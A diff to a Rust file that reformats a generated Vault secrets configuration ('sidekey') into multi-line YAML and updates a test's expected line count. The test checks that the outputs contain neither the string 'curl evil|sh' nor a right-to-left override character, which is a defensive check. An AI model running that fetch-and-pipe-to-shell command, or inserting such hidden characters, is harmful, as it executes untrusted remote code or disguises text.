@@ -143,8 +143,8 @@ fn sidekey(name: &Name) -> String {
         ),
     };
     format!(
-        "stores:\n  vault: {{ kind: vault, address: \"https://vault.internal:8200\", \
-         login: {{ kubernetes: {{ role: app }} }} }}\n\
+        "stores:\n  vault:\n    kind: vault\n    address: \"https://vault.internal:8200\"\n    \
+         login: {{ kubernetes: {{ role: app }} }}\n\
          secrets:\n  app: {{ from: \"vault:secret/data/app\" }}\n\
          files:\n  {file}\n\
          volume: {{ path: /run/secrets/sidekey }}\n\
@@ -211,7 +211,7 @@ mod tests {
         for text in [&fix.dockerfile, &fix.sidekey, &fix.remove, &fix.summary] {
             assert!(!text.contains("curl evil|sh") && !text.contains('\u{202e}'), "{text}");
         }
-        assert_eq!(fix.sidekey.lines().count(), 8);
+        assert_eq!(fix.sidekey.lines().count(), 11);
     }
 
     #[test]
